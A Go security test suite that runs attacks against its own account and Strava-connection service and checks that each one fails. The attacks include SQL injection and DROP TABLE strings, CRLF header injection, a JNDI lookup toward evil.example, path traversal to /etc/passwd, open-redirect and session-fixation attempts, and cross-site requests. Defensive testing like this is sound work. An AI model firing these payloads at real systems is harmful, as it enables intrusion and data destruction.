package hostile_test

import (
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"sync"
	"testing"

	"github.com/train-d/train-d/infra/hostile"
)

// TestHostile attacks the running system, and prints what became of each attack.
func TestHostile(t *testing.T) {
	t.Parallel()
	v := setup(t)
	defer v.print()
	ada, eve := v.register(t, "ada@example.com"), v.register(t, "eve@example.com")
	t.Run("input", func(t *testing.T) { v.injections(t, ada); v.bodies(t); v.wire(t) })
	t.Run("paths and redirects", func(t *testing.T) { v.paths(t, ada); v.redirects(t, ada) })
	t.Run("tokens", func(t *testing.T) { v.substitutions(t, ada, eve); v.links(t); v.secondFactor(t) })
	t.Run("sessions", func(t *testing.T) { v.fixation(t); v.crossSite(t, ada); v.inABrowser(t, ada) })
	t.Run("consent at Strava", func(t *testing.T) { v.oauth(t, ada, eve) })
	t.Run("pushes", func(t *testing.T) { v.webhook(t); v.pubsub(t); v.startsInTheCloud(t) })
	t.Run("sign-in by Strava", v.stravaSignIn)
	t.Run("races", func(t *testing.T) {
		v.races(t)
		for round := range 3 {
			v.erasedUnderWay(t, round)
		}
	})
}

// injections sends SQL and header lines in every field of every operation that changes nothing for good.
func (v *victim) injections(t *testing.T, token string) {
	operations, err := hostile.Operations([]byte(v.ask(t, "GET", "/openapi.json", "", "").body))
	if err != nil {
		t.Fatal(err)
	}
	accounts := v.count(t, `SELECT count(*) FROM accounts`)
	texts := []string{"' OR '1'='1", "'; DROP TABLE accounts; --", `\'; SELECT pg_sleep(10); --`, "x\r\nSet-Cookie: session=evil", "x\nLocation: https://evil.example", "\x00", "\xff\xfe", "${jndi:ldap://evil.example/a}"}
	sent, fields, worst := 0, 0, 0
	var broken string
	for _, operation := range operations {
		for _, field := range operation.Fields() {
			fields++
			for i, text := range texts {
				next := hostile.New(operations, uint64(i)).One(operation, field, text)
				session := token
				if operation.Method == "PUT" && operation.Path == "/v1/account/password" { // such a text may well be one, and ends the session
					session = v.register(t, fmt.Sprintf("somebody-%d@password.example.com", i))
				}
				got := v.ask(t, operation.Method, next.Target, session, next.Body)
				sent, worst = sent+1, max(worst, got.status)
				if got.status >= 500 || got.token() == "evil" || strings.Contains(got.header.Get("Location"), "evil.example") {
					broken = fmt.Sprintf("%s %s %q: %d %s", operation.Method, next.Target, next.Body, got.status, got.body)
				}
			}
		}
	}
	opened := v.count(t, `SELECT count(*) FROM accounts WHERE email NOT LIKE 'somebody-%'`)
	v.survived(t, fmt.Sprintf("SQL and header lines in %d fields of %d operations", fields, len(operations)), broken == "" && opened == accounts && fields > 20,
		"%d requests, worst status %d, as many accounts as before, no header of theirs %s", sent, worst, broken)
	got := v.ask(t, "GET", "/v1/session", token, "", "User-Agent", "' OR 1=1 --", "X-Forwarded-For", "'; DROP TABLE sessions; --", "Traceparent", "00-'-'-01",
		"X-Cloud-Trace-Context", "'/';o=1", "Accept-Language", strings.Repeat("x", 8000))
	v.survived(t, "SQL in headers", got.status == 200, "%d", got.status)
}

func (v *victim) bodies(t *testing.T) {
	send := func(attack, body string, want int) {
		got := v.ask(t, "POST", "/v1/session", "", body)
		v.survived(t, attack, got.status == want, "%d", got.status)
	}
	send("1 MB of JSON", `{"email":"`+strings.Repeat("a", 1<<20)+`"}`, 413)
	send("JSON 30,000 lists deep", strings.Repeat("[", 30_000), 400)
	send("JSON 9,000 objects deep", strings.Repeat(`{"a":`, 9_000)+"1"+strings.Repeat("}", 9_000), 422)
	send("UTF-8 broken within a text", "{\"email\":\"a\xff@example.com\",\"password\":\"x\"}", 400)
	send("a lone surrogate", `{"email":"\ud800@example.com","password":"x"}`, 400)
	send("a name twice", `{"email":"eve@example.com","email":"ada@example.com","password":"x"}`, 400)
	send("a name in other letters", `{"EMAIL":"eve@example.com","email":"ada@example.com","password":"x"}`, 422)
	send("a number without end", `{"email":1e999,"password":"x"}`, 400)
	got := v.ask(t, "POST", "/v1/session", "", `{"email":"a@example.com","password":"x"}`, "Content-Type", "text/plain")
	v.survived(t, "JSON as text/plain, as a form sends it", got.status == 415, "%d", got.status)
	got = v.ask(t, "POST", "/v1/session", "", `email=a&password=b`, "Content-Type", "application/x-www-form-urlencoded")
	v.survived(t, "a form", got.status == 415, "%d", got.status)
}

func (v *victim) paths(t *testing.T, token string) {
	for _, target := range []string{"/../../../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/assets/../../go.mod", "/assets/%2e%2e%2f%2e%2e%2fgo.mod",
		"/v1//session", "//evil.example/v1/session", "/v1/session/..;/settings", "/v1/session%00", "/V1/SESSION", "/.git/config", "/.keep", "/assets/"} {
		got := v.ask(t, "GET", v.url+target, token, "")
		// The framework's own mux cleans a path before we see it, and leads to the clean one, on the same origin.
		location := got.header.Get("Location")
		cleaned := got.status == 307 && strings.HasPrefix(location, "/") && !strings.HasPrefix(location, "//") && !strings.ContainsAny(location, `\:`)
		v.survived(t, "path "+target, got.status == 404 || got.status == 400 || cleaned, "%d %s", got.status, location)
	}
	got := v.ask(t, "GET", "/v1/session", token, "", "X-Original-URL", "/v1/settings", "X-HTTP-Method-Override", "DELETE", "X-Rewrite-URL", "/")
	still := v.ask(t, "GET", "/v1/session", token, "")
	v.survived(t, "headers that rewrite method and path", strings.Contains(got.body, "ada@") && still.status == 200, "no effect")
}

func (v *victim) redirects(t *testing.T, token string) {
	home := v.url + "/"
	for _, c := range [][2]string{
		{"/v1/strava/callback?state=x&code=y&return_to=https://evil.example", home}, {"/v1/strava/callback?error=https://evil.example", home},
		{"/v1/strava/callback?state=%0d%0aLocation:%20https://evil.example", home}, {"/v1/strava/connect", v.system.Info().Simulator.URL + "/"},
	} {
		for _, header := range [][]string{nil, {"Host", "evil.example"}, {"X-Forwarded-Host", "evil.example", "X-Forwarded-Proto", "gopher", "Forwarded", "host=evil.example"}} {
			got := v.ask(t, "GET", c[0], token, "", header...)
			location := got.header.Get("Location")
			v.survived(t, fmt.Sprintf("redirect by %s %v", c[0], header), got.status == 303 && strings.HasPrefix(location, c[1]) && !strings.Contains(location, "evil"), "%d to %s", got.status, strings.SplitN(location, "?", 2)[0])
		}
	}
}

func (v *victim) fixation(t *testing.T) {
	chosen := strings.Repeat("A", 43)
	credentials := fmt.Sprintf(`{"email":"ada@example.com","password":%q}`, password)
	got := v.ask(t, "POST", "/v1/session", chosen, credentials)
	after := v.ask(t, "GET", "/v1/session", chosen, "")
	v.survived(t, "session fixation at sign-in", got.status == 200 && got.token() != chosen && after.status == 401, "a new token; the chosen one %d", after.status)
	first := got.token()
	again := v.ask(t, "POST", "/v1/session", first, credentials)
	v.survived(t, "signing in within a session", again.token() != "" && again.token() != first, "a new token")
	v.ask(t, "DELETE", "/v1/session", first, "")
	dead := v.ask(t, "GET", "/v1/session", first, "")
	v.survived(t, "a token after signing out", dead.status == 401, "%d", dead.status)
	for name, cookie := range map[string]string{"as __Host-session over HTTP": "__Host-session=" + again.token(), "in quotes behind another": `session="` + chosen + `"; session=` + again.token(), "in a header": ""} {
		got := v.ask(t, "GET", "/v1/session", "", "", "Cookie", cookie, "Authorization", "Bearer "+again.token())
		v.survived(t, "a token "+name, got.status == 401, "%d", got.status)
	}
}

// crossSite sends what a browser sends for another site's page.
func (v *victim) crossSite(t *testing.T, token string) {
	for _, headers := range [][]string{{"Origin", "https://evil.example"}, {"Origin", "null"}, {"Sec-Fetch-Site", "cross-site"}, {"Sec-Fetch-Site", "same-site"},
		{"Origin", v.url + ".evil.example"}, {"Origin", strings.Replace(v.url, "http:", "https:", 1) + "0"}} {
		for _, c := range [][3]string{{"DELETE", "/v1/session", ""}, {"PATCH", "/v1/settings", `{"units":"imperial"}`}, {"DELETE", "/v1/account", `{"confirm":"erase"}`}, {"POST", "/v1/sync", ""}} {
			got := v.ask(t, c[0], c[1], token, c[2], headers...)
			if got.status != 403 {
				v.survived(t, fmt.Sprintf("%s %s with %v", c[0], c[1], headers), false, "%d %s", got.status, got.body)
			}
		}
		v.survived(t, fmt.Sprintf("requests of another site, %v", headers), true, "403")
	}
}

// radio finds the athletes on the simulator's consent page.
var radio = regexp.MustCompile(`name="athlete_id" value="(\d+)"`)

// consent goes to Strava for a session, agrees as the nth athlete there, and gives the address that leads back.
func (v *victim) consent(t *testing.T, token string, nth int) string {
	t.Helper()
	return v.agree(t, v.ask(t, "GET", "/v1/strava/connect", token, "").header.Get("Location"), nth)
}

// outcome opens an address that Strava leads back to, and gives the word that the page is told.
func (v *victim) outcome(t *testing.T, back, token string) string {
	t.Helper()
	_, word, _ := strings.Cut(v.ask(t, "GET", back, token, "").header.Get("Location"), "strava=")
	return word
}

func (v *victim) oauth(t *testing.T, ada, eve string) {
	expect := func(attack, got, want string) { v.survived(t, attack, got == want, "%s", got) }
	back := v.consent(t, eve, 0)
	expect("eve's consent opened in ada's browser", v.outcome(t, back, ada), "state")
	expect("eve's consent opened by nobody", v.outcome(t, back, ""), "signed-out")
	older := v.consent(t, ada, 1)
	newer := v.consent(t, ada, 1)
	expect("a state after a newer one was begun", v.outcome(t, older, ada), "state")
	address, _ := url.Parse(newer)
	query := address.Query()
	query.Set("state", "")
	address.RawQuery = query.Encode()
	expect("an empty state", v.outcome(t, address.String(), ada), "state")
	words := map[string]int{}
	var wait sync.WaitGroup
	var mu sync.Mutex
	for range 8 {
		wait.Go(func() {
			word := v.outcome(t, newer, ada)
			mu.Lock()
			defer mu.Unlock()
			words[word]++
		})
	}
	wait.Wait()
	v.survived(t, "a state used eight times at once", words["connected"] == 1 && words["state"] == 7, "%v", words)
	expect("a state used again", v.outcome(t, newer, ada), "state")
	expect("ada's Strava athlete connected by eve", v.outcome(t, v.consent(t, eve, 1), eve), "taken")
	owned := v.count(t, `SELECT count(*) FROM strava_connections`)
	v.survived(t, "connections after all that", owned == 1, "%d", owned)
	until(t, "ada's import", func() bool { return v.count(t, `SELECT count(*) FROM activities WHERE streams = 'stored'`) > 0 })
	id := v.count(t, `SELECT min(id) FROM activities WHERE streams = 'stored'`)
	for _, target := range []string{"/v1/activities/%d", "/v1/activities/%d/streams"} {
		got := v.ask(t, "GET", fmt.Sprintf(target, id), eve, "")
		v.survived(t, "ada's activity asked for by eve: "+target, got.status == http.StatusNotFound, "%d", got.status)
	}
}
